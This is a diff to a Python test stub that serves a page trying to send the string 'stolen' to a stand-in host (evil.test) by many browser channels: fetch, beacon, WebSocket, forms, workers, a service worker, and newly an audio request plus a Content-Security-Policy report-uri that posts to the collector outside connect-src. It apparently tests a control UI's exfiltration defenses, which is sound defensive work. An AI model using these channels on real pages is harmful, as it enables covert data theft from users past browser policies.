@@ -4,7 +4,7 @@ that rewrote OpenClaw's control UI could serve. Python stdlib only.
 launch_ui_exfil_stub.py SOCKET COLLECTOR. GET / answers a page that tries to send "stolen" to
 COLLECTOR (http://evil.test:<port>, another site) every way a page can without the user: fetch,
 sendBeacon, an image, a script, a stylesheet, a frame, a form posted into a hidden frame, a
-WebSocket, a dedicated worker's fetch, a service worker; /worker.js and /sw.js are those workers'
+WebSocket, a dedicated worker's fetch, a service worker, a violation report of its own policy; /worker.js and /sw.js are those workers'
 scripts. Answers keep the connection alive (as Node's do). Exits after 10 minutes."""
 import os, socket, sys, threading, time
 
@@ -24,6 +24,7 @@ try { fetch("C/fetch?d=stolen", {mode: "no-cors"}).then(() => note("fetch", "sen
 try { note("beacon", navigator.sendBeacon("C/beacon?d=stolen", "stolen")); } catch (e) { note("beacon", e); }
 try { const ws = new WebSocket("C/ws".replace("http:", "ws:")); ws.onerror = () => note("ws", "error"); } catch (e) { note("ws", e); }
 try { document.getElementById("f").submit(); note("form", "submitted"); } catch (e) { note("form", e); }
+try { new Audio("C/media?d=stolen").play().catch(() => {}); } catch (e) { note("media", e); }
 try { const w = new Worker("/worker.js"); w.onmessage = (m) => note("worker", m.data); w.onerror = (e) => note("worker", "error " + e.message); } catch (e) { note("worker", e); }
 if (navigator.serviceWorker) navigator.serviceWorker.register("/sw.js").then(() => note("sw", "registered"), (e) => note("sw", e));
 else note("sw", "no serviceWorker");
@@ -33,9 +34,15 @@ WORKER = 'fetch("C/worker?d=stolen", {mode: "no-cors"}).then(() => postMessage("
 SW = 'self.addEventListener("install", () => fetch("C/sw?d=stolen", {mode: "no-cors"}));'.replace("C/", collector + "/")
 
 
+# A policy of the page's own whose violation report goes to the collector: the audio above
+# violates it, and the browser POSTs the report (with the blocked URL) there, outside any
+# connect-src.
+REPORTING = "Content-Security-Policy: media-src 'none'; report-uri C/report?d=stolen\r\n".replace("C/", collector + "/")
+
+
 def answer(c, ctype, body):
     data = body.encode()
-    c.sendall(f"HTTP/1.1 200 OK\r\nContent-Type: {ctype}\r\nContent-Length: {len(data)}\r\n"
+    c.sendall(f"HTTP/1.1 200 OK\r\nContent-Type: {ctype}\r\nContent-Length: {len(data)}\r\n{REPORTING}"
               f"Connection: keep-alive\r\n\r\n".encode() + data)
 
 
